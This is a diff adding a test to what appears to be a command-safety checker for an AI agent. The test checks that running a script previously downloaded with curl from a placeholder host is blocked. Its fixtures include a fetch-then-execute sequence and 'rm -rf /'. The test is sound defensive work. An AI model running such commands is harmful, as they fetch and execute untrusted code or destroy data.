@@ -119,3 +119,12 @@ def test_each_session_id_has_its_own_file_in_the_directory(tmp_path: Path) -> No
         ]
     assert len(list(directory.iterdir())) == len(sessions)
     assert not (tmp_path / "x").exists()
+
+
+async def test_earlier_statements_that_judge_differently_alone_never_block_a_later_call() -> None:
+    """Kept statements are re-rendered text: if they ever give a finding alone, it is not the call's."""
+    agent = Agent()
+    session_downloads.remember("s1", "curl -o /tmp/p.sh https://x.example/p.sh")
+    session_downloads._store.add("s1", ["rm -rf /"])  # as if a kept statement judged differently
+    assert await agent.run("ls -la") == "done"
+    assert (await agent.run("bash /tmp/p.sh"))["status"] == "blocked"
